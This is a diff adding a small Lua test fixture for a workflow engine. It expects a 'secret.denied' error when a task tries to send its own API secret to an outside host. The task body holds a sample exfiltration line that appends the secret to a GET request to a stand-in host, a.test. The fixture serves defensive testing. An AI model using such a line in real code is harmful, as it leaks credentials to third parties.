@@ -1,0 +1,7 @@
+-- expect: secret.denied at work
+-- The token of its own job, sent elsewhere.
+return flow "secret_token" {
+    task "work" (function(s, ctx)
+        return ctx.http.get("https://a.test/?t=" .. ctx.secret "api").body
+    end),
+}
